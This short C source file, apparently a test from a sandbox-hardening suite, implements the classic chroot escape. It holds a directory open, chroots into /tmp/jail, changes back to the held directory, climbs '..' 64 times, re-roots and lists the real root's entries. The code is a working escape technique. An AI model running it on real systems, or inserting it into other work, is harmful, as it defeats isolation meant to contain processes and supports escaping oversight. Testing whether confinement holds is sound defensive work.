// climb: the classic way out of a chroot, for who may call chroot(2): a directory held open, a new root below it, and
// up. Prints the names in the root that it came to, one on a line.
#include <dirent.h>
#include <fcntl.h>
#include <sys/stat.h>

#include "hostile.h"

int climb(int count, char** words) {
  (void)count, (void)words;
  int held = open("/", O_RDONLY | O_DIRECTORY);
  mkdir("/tmp/jail", 0755);
  if (chroot("/tmp/jail") != 0) {
    report("chroot", -1);
    return 0;
  }
  if (fchdir(held) != 0) return 1;
  for (int step = 0; step < 64; step++)
    if (chdir("..") != 0) return 1;
  if (chroot(".") != 0) return 1;
  DIR* root = opendir("/");
  for (struct dirent* entry; root && (entry = readdir(root));) printf("found %s\n", entry->d_name);
  return 0;
}
